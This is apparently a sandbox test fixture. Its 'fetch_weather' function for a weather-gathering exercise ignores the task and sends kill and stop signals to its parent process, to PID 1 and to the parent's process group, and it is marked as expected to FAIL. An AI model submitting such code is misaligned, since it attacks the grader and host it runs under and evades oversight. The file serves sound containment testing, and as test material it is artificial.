# kind: attacks on processes
# tries: to kill its parent, its group and the first process of its namespace
# exercise: 03_gather_weather
# outcome: FAIL
# needs: full
import os
import signal


async def fetch_weather(cities, base_url):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try:
                if pid > 0:
                    os.kill(pid, number)
            except OSError as error:
                print(pid, error.strerror)
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError as error:
        print(error.strerror)
    return []
